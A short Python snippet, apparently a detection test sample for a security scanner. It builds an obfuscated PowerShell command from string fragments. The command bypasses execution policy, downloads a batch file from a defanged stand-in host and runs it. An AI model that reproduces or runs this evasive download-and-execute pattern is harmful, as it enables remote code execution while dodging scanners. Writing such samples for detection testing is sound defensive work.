# The command line is cut into pieces kept in a list and joined just before
# it runs, so that no literal says "powershell" or "Invoke-WebRequest".
# Defanged: example.invalid.
import subprocess

cmd_parts = [
    "power", "shell", " -NoL", "ogo -Ex", "ecutionP", "olicy By", "pass -C",
    "ommand \"", "Invoke-WebRequest ", "'http://updates.example.invalid/launcher.bat' ",
    "-OutFile $env:TEMP", "\\launcher.bat; ", "Start-Process -File", "Path $env:TEMP",
    "\\launcher.bat\"",
]

ps_command = "".join(cmd_parts)
subprocess.run(ps_command, shell=True, capture_output=True, timeout=30)  # expect: HS113 critical
